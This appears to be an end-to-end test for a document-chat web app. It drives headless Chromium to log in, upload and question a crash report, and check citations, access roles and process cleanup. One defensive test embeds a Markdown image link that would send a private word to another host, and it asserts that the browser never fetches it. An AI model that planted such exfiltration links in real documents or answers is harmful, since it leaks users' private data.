"""End to end in headless Chromium: ``kbchat run`` (its own embedded PostgreSQL and Redis, its own workers),
create a knowledge base in the browser, upload a demo report, wait for it to be ready, ask about it, and see
the answer cite the report's page. Then Ctrl-C the app and check that nothing it started is left behind.

Chromium is Debian's (``make chromium`` installs it); Playwright only drives it and never downloads a browser.
"""

from __future__ import annotations

import os
import re
import signal
import socket
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import psutil
import pytest

from tests.conftest import DEMO, ROOT
from tests.scans import image_only_pdf

pytestmark = pytest.mark.e2e

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
                 "--disable-sync", "--no-first-run"]
REPORT = DEMO / "20071229X02007.pdf"  # a Piper PA-22 that hit trees and wires on final approach to an airstrip
QUESTION = "What did the Piper hit on final approach to the private airstrip?"
START_TIMEOUT = 240  # first start: initdb, migrations, workers loading the embedding model, Streamlit
READY_TIMEOUT = 180  # the upload row reaching "ready"
ANSWER_TIMEOUT = 180


@dataclass
class App:
    process: subprocess.Popen
    url: str
    data_dir: Path
    lines: list[str] = field(default_factory=list)
    ready: threading.Event = field(default_factory=threading.Event)

    def output(self) -> str:
        return "".join(self.lines[-60:])

    def logs(self) -> str:
        """The tail of each child's log under the data dir, for a failure message."""
        parts = []
        for log in sorted((self.data_dir / "logs").glob("*.log")):
            parts.append(f"--- {log.name}\n{log.read_text(errors='replace')[-2500:]}")
        return "\n".join(parts)


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def _read_output(app: App) -> None:
    assert app.process.stdout is not None
    for line in app.process.stdout:
        app.lines.append(line)
        if line.startswith("kbchat is ready"):
            app.ready.set()


def _started_by(app: App) -> list[psutil.Process]:
    """Every process the app runs: its descendants, and the embedded servers (daemonised, so not descendants)."""
    found = {}
    try:
        for process in [psutil.Process(app.process.pid), *psutil.Process(app.process.pid).children(recursive=True)]:
            found[process.pid] = process
    except psutil.NoSuchProcess:
        pass
    for process in psutil.process_iter(["cmdline"]):
        if str(app.data_dir) in " ".join(process.info["cmdline"] or []):
            found[process.pid] = process
    return list(found.values())


def _is_browser_side(process: psutil.Process) -> bool:
    """Playwright's driver (node) or Chromium, not one of the app's processes (a worker may fork a new pool child
    meanwhile)."""
    try:
        command = " ".join(process.cmdline()).lower()
    except psutil.Error:
        return False
    return any(word in command for word in ("chrom", "playwright", "node"))


def _left_over(processes: list[psutil.Process]) -> list[str]:
    """The ones still there (a zombie counts: nothing here reaps orphans)."""
    left = []
    for process in processes:
        try:
            if process.is_running():  # same pid *and* start time: not a reused pid
                left.append(f"{process.pid} {process.status()} {' '.join(process.cmdline())[:160]}")
        except psutil.NoSuchProcess:
            pass
    return left


def _stop(app: App, processes: list[psutil.Process]) -> list[str]:
    """Ctrl-C for the whole app (SIGINT to its process group) and wait; then report, and kill, anything left."""
    if app.process.poll() is None:
        os.killpg(app.process.pid, signal.SIGINT)
        try:
            app.process.wait(timeout=60)
        except subprocess.TimeoutExpired:
            pass
    deadline = time.monotonic() + 15
    while (left := _left_over(processes)) and time.monotonic() < deadline:
        time.sleep(0.2)
    for process in processes:  # never leave orphans, even when the test fails
        try:
            if process.is_running():
                process.kill()
        except psutil.NoSuchProcess:
            pass
    if app.process.poll() is None:
        app.process.kill()
    app.process.wait()
    return left


@pytest.fixture
def app(tmp_path_factory) -> Iterator[App]:
    """``kbchat run --no-demo`` in its own session, on a free port, with its own data dir and embedded services."""
    data_dir = tmp_path_factory.mktemp("e2e") / "data"
    env = {k: v for k, v in os.environ.items()
           if k not in ("KBCHAT_DATABASE_URL", "KBCHAT_REDIS_URL", "KBCHAT_TASK_BACKEND", "KBCHAT_TGI_URL")}
    env.update(KBCHAT_DATA_DIR=str(data_dir), PYTHONUNBUFFERED="1")
    port = _free_port()
    process = subprocess.Popen(
        [sys.executable, "-m", "kbchat.cli", "run", "--port", str(port), "--no-demo"],
        cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, start_new_session=True,
    )
    started = App(process, f"http://127.0.0.1:{port}", data_dir)
    reader = threading.Thread(target=_read_output, args=(started,), daemon=True)
    reader.start()
    processes: list[psutil.Process] = []
    try:
        deadline = time.monotonic() + START_TIMEOUT
        while not started.ready.wait(0.5):
            if process.poll() is not None or time.monotonic() > deadline:
                pytest.fail(f"kbchat run did not get ready:\n{started.output()}\n{started.logs()}")
        processes = _started_by(started)
        names = " ".join(" ".join(p.cmdline()) for p in processes)
        assert "uvicorn" in names and "redis-server" in names and "postgres" in names, names
        yield started
    finally:
        processes = processes or _started_by(started)
        left = _stop(started, processes)
        reader.join(timeout=5)
    assert process.returncode == 0, f"kbchat run exited with {process.returncode}:\n{started.output()}"
    assert "kbchat: stopped." in started.output()
    assert not left, "left running after kbchat run stopped:\n" + "\n".join(left)


@pytest.fixture
def chromium() -> Path:
    """Debian's Chromium; its absence fails the test (before the app starts) with the command that installs it."""
    if not CHROMIUM.exists():
        pytest.fail(f"{CHROMIUM} is missing: `make chromium` installs Debian's Chromium for this test.")
    return CHROMIUM


def test_upload_a_report_and_ask_about_it_in_the_browser(chromium, app, tmp_path):
    from playwright.sync_api import expect, sync_playwright

    kb_name = f"Aviation reports {uuid.uuid4().hex[:6]}"
    ours = {process.pid for process in psutil.Process().children(recursive=True)}  # the app's
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(chromium), args=CHROMIUM_ARGS)
        # Playwright's driver and Chromium's processes: they must be gone once the browser is closed.
        driver_and_browser = [p for p in psutil.Process().children(recursive=True)
                              if p.pid not in ours and _is_browser_side(p)]
        page = browser.new_page(viewport={"width": 1400, "height": 1000})
        blocked: list[str] = []  # what the Content-Security-Policy refused: kbchat's own page must need nothing
        page.on("console", lambda m: blocked.append(m.text) if "Content Security Policy" in m.text else None)
        outside: list[str] = []  # requests to any other origin (a document's remote image would be one)
        page.on("request", lambda r: outside.append(r.url) if not r.url.startswith(app.url) else None)
        try:
            # First start made `admin` with a random password, printed once and kept in the data dir.
            password = (app.data_dir / "initial-admin-password").read_text().strip()
            assert password in app.output()
            page.goto(f"{app.url}/upload")
            expect(page.get_by_role("button", name="Sign in")).to_be_visible(timeout=60_000)
            page.get_by_label("Username").fill("admin")
            page.get_by_label("Password").fill("not the password")
            page.get_by_role("button", name="Sign in").click()
            expect(page.get_by_text("Wrong username or password.")).to_be_visible(timeout=30_000)
            page.get_by_label("Password").fill(password)
            page.get_by_role("button", name="Sign in").click()
            expect(page.get_by_role("heading", name="Upload documents")).to_be_visible(timeout=60_000)

            # A fresh install has no knowledge base: the picker offers to create one, in place.
            page.get_by_label("Name of the new knowledge base").fill(kb_name)
            page.get_by_role("button", name="Create").click()
            expect(page.get_by_text(f"Documents in “{kb_name}”")).to_be_visible(timeout=60_000)
            # The upload box names every format the parser reads, not only PDF, Markdown and plain text.
            expect(page.get_by_text("Word (.docx), HTML, Markdown, CSV or plain text", exact=False)).to_be_visible()

            page.locator("input[type=file]").set_input_files(str(REPORT))
            add = page.get_by_role("button", name="Add to knowledge base")
            expect(add).to_be_enabled(timeout=60_000)
            add.click()
            row = page.get_by_test_id("stHorizontalBlock").filter(has_text=REPORT.name)
            expect(row).to_contain_text("ready", timeout=READY_TIMEOUT * 1000)  # the status badge
            expect(row).to_contain_text("4 pages")

            # The same report scanned (its pages as images only): read by OCR, ready with the same pages.
            scan = tmp_path / "scanned-report.pdf"
            scan.write_bytes(image_only_pdf(REPORT.read_bytes()))
            page.locator("input[type=file]").set_input_files(str(scan))
            add = page.get_by_role("button", name="Add to knowledge base")
            expect(add).to_be_enabled(timeout=60_000)
            add.click()
            scanned_row = page.get_by_test_id("stHorizontalBlock").filter(has_text=scan.name)
            expect(scanned_row).to_contain_text("ready", timeout=READY_TIMEOUT * 1000)
            expect(scanned_row).to_contain_text("4 pages")
            page.screenshot(path=str(tmp_path / "upload.png"), full_page=True)

            # The row links to its ingest task's record (Streamlit opens Markdown links in a new tab).
            with page.expect_popup() as popup:
                row.get_by_role("link", name="task details").click()
            status = popup.value
            expect(status.get_by_role("heading", name="ingest.document")).to_be_visible(timeout=60_000)
            expect(status.get_by_test_id("stMetric").filter(has_text="State")).to_contain_text("succeeded")
            status.screenshot(path=str(tmp_path / "status.png"), full_page=True)
            status.close()

            page.get_by_test_id("stSidebarNav").get_by_text("Ask", exact=True).click()
            expect(page.get_by_role("heading", name="Ask your documents")).to_be_visible(timeout=60_000)
            box = page.get_by_test_id("stChatInputTextArea")
            box.fill(QUESTION)
            box.press("Enter")
            citation = page.get_by_test_id("stExpander").filter(
                has_text=re.compile(rf"{re.escape(REPORT.name)}, pp?\. \d")
            )
            expect(citation.first).to_be_visible(timeout=ANSWER_TIMEOUT * 1000)
            expect(page.get_by_test_id("stChatMessage").last).to_contain_text("utility wires")
            page.screenshot(path=str(tmp_path / "answer.png"), full_page=True)

            # Export the conversation as Markdown: the question, the answer, its numbered sources.
            with page.expect_download(timeout=60_000) as download:
                page.get_by_role("button", name="Export conversation").click()
            exported = Path(download.value.path()).read_text(encoding="utf-8")
            assert f"## 1. {QUESTION}" in exported and "utility wires" in exported, exported
            assert re.search(rf"- \[\d+\] ({re.escape(REPORT.name)}|scanned-report\.pdf), pp?\. \d", exported), exported

            _the_cited_page_opens_and_feedback_is_stored(page, app, citation.first, tmp_path)

            # Every page's URL opens that page, Ask's too (it was only at "/"; /chat said "Page not found").
            page.goto(f"{app.url}/chat")
            expect(page.get_by_role("heading", name="Ask your documents")).to_be_visible(timeout=60_000)
            expect(page.get_by_text("Page not found")).to_have_count(0)
            page.goto(app.url)
            expect(page.get_by_role("heading", name="Ask your documents")).to_be_visible(timeout=60_000)
            page.wait_for_url(re.compile(r"/chat$"), timeout=30_000)

            _exfiltration_document_stays_inert(page, app, kb_name, tmp_path)
            _analyst_sees_only_what_is_shared(browser, app, kb_name, tmp_path)
            assert not blocked, f"the page needed something its own policy forbids: {blocked[:5]}"
            assert not outside, f"the page called another origin: {outside[:5]}"
        except BaseException:
            page.screenshot(path=str(tmp_path / "failure.png"), full_page=True)
            print(f"screenshot: {tmp_path / 'failure.png'}\n{app.output()}\n{app.logs()}")
            raise
        finally:
            browser.close()
    deadline = time.monotonic() + 15
    while (left := _left_over(driver_and_browser)) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert not left, "left running after the browser closed:\n" + "\n".join(left)


LEAK = "![chart\\]x](http://127.0.0.1:{port}/leak.png?q=BLUEHERON)"


def _exfiltration_document_stays_inert(page, app: App, kb_name: str, tmp_path: Path) -> None:
    """A Markdown document whose image would carry a private word to another host, cited in an answer: the
    browser asks nothing of that host (the listener hears nothing; the test's request log above sees nothing)."""
    from http.server import BaseHTTPRequestHandler, HTTPServer

    from playwright.sync_api import expect

    heard: list[str] = []

    class Listener(BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802
            heard.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args):
            pass

    server = HTTPServer(("127.0.0.1", 0), Listener)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        note = tmp_path / "blueheron-note.md"
        note.write_text("# Blue heron survey\n\nThe blue heron colony nests by the weir. "
                        + LEAK.format(port=server.server_port) + "\n\nIt counted forty nests.\n")
        page.get_by_test_id("stSidebarNav").get_by_text("Upload", exact=True).click()
        page.locator("input[type=file]").set_input_files(str(note))
        page.get_by_role("button", name="Add to knowledge base").click()
        row = page.get_by_test_id("stHorizontalBlock").filter(has_text=note.name)
        expect(row).to_contain_text("ready", timeout=READY_TIMEOUT * 1000)
        page.get_by_test_id("stSidebarNav").get_by_text("Ask", exact=True).click()
        box = page.get_by_test_id("stChatInputTextArea")
        box.fill("Where does the blue heron colony nest?")
        box.press("Enter")
        cited = page.get_by_test_id("stExpander").filter(has_text=note.name)
        expect(cited.first).to_be_visible(timeout=ANSWER_TIMEOUT * 1000)
        cited.first.click()
        expect(cited.first).to_contain_text("weir")
        expect(cited.first).to_contain_text("127.0.0.1")  # the link is shown as text
        assert page.locator("img[src*='leak.png']").count() == 0
        page.wait_for_timeout(1500)
        page.screenshot(path=str(tmp_path / "exfiltration.png"), full_page=True)
        assert not heard, f"the browser called the document's host: {heard}"
    finally:
        server.shutdown()


def _analyst_sees_only_what_is_shared(browser, app: App, kb_name: str, tmp_path: Path) -> None:
    from playwright.sync_api import expect

    env = {**os.environ, "KBCHAT_DATA_DIR": str(app.data_dir)}
    for key in ("KBCHAT_DATABASE_URL", "KBCHAT_REDIS_URL"):
        env.pop(key, None)
    password = f"Analyst-{uuid.uuid4().hex}"
    subprocess.run([sys.executable, "-m", "kbchat.cli", "users", "add", "rita", "--role", "analyst",
                    "--password-stdin"], input=password + "\n", text=True, env=env, cwd=ROOT, check=True,
                   capture_output=True, timeout=120)
    context = browser.new_context(viewport={"width": 1400, "height": 1000})
    page = context.new_page()
    try:
        page.goto(f"{app.url}/login")
        page.get_by_label("Username").fill("rita")
        page.get_by_label("Password").fill(password)
        page.get_by_role("button", name="Sign in").click()
        expect(page.get_by_role("heading", name="Ask your documents")).to_be_visible(timeout=60_000)
        expect(page.get_by_text("No knowledge base is shared with you yet")).to_be_visible(timeout=30_000)
        nav = page.get_by_test_id("stSidebarNav")
        expect(nav.get_by_text("Upload", exact=True)).to_be_visible()
        expect(nav.get_by_text("Monitoring", exact=True)).to_have_count(0)
        expect(nav.get_by_text("Audit log", exact=True)).to_have_count(0)
        page.goto(f"{app.url}/monitoring")  # by URL: not a page for an analyst
        page.wait_for_timeout(3000)
        expect(page.get_by_role("heading", name="Monitoring")).to_have_count(0)
        subprocess.run([sys.executable, "-m", "kbchat.cli", "grant", kb_name, "rita", "--level", "viewer"], env=env,
                       cwd=ROOT, check=True, capture_output=True, timeout=120)
        page.goto(f"{app.url}/chat")
        expect(page.get_by_role("heading", name="Ask your documents")).to_be_visible(timeout=60_000)
        expect(page.get_by_test_id("stChatInputTextArea")).to_have_attribute("placeholder", f"Ask about “{kb_name}”",
                                                                             timeout=30_000)
        page.screenshot(path=str(tmp_path / "analyst.png"), full_page=True)
    except BaseException:
        page.screenshot(path=str(tmp_path / "analyst-failure.png"), full_page=True)
        raise
    finally:
        context.close()


def _the_cited_page_opens_and_feedback_is_stored(page, app: App, citation, tmp_path: Path) -> None:
    import json

    from playwright.sync_api import expect

    citation.click()  # the expander
    dialog = page.get_by_role("dialog")
    for _ in range(3):  # a click that lands while the page re-renders is dropped by Streamlit: click again
        citation.get_by_role("button", name=re.compile(r"Open p\. \d")).click()
        try:
            dialog.wait_for(state="visible", timeout=20_000)
            break
        except Exception:
            continue
    expect(dialog.get_by_text(REPORT.name)).to_be_visible(timeout=60_000)
    expect(dialog.locator("img")).to_be_visible(timeout=60_000)  # the page, rendered by pdfium
    expect(dialog.get_by_text("could not be located")).to_have_count(0)  # the passage is highlighted on it
    expect(dialog.get_by_role("button", name="Download original")).to_be_visible()
    page.screenshot(path=str(tmp_path / "cited-page.png"), full_page=True)
    page.keyboard.press("Escape")
    expect(dialog).to_have_count(0, timeout=10_000)
    page.get_by_test_id("stChatMessage").last.get_by_test_id("stFeedback").locator("button").last.click()
    env = {**os.environ, "KBCHAT_DATA_DIR": str(app.data_dir)}
    for key in ("KBCHAT_DATABASE_URL", "KBCHAT_REDIS_URL"):
        env.pop(key, None)
    deadline = time.monotonic() + 30
    rows: list = []
    while time.monotonic() < deadline and not rows:
        done = subprocess.run([sys.executable, "-m", "kbchat.cli", "feedback", "--json"], env=env, cwd=ROOT,
                              capture_output=True, text=True, timeout=120)
        rows = json.loads(done.stdout or "[]")
        time.sleep(1)
    assert rows and rows[0]["rating"] == -1 and rows[0]["question"] == QUESTION, rows
    assert rows[0]["retrieved"] and rows[0]["retrieved"][0]["document"] == REPORT.name
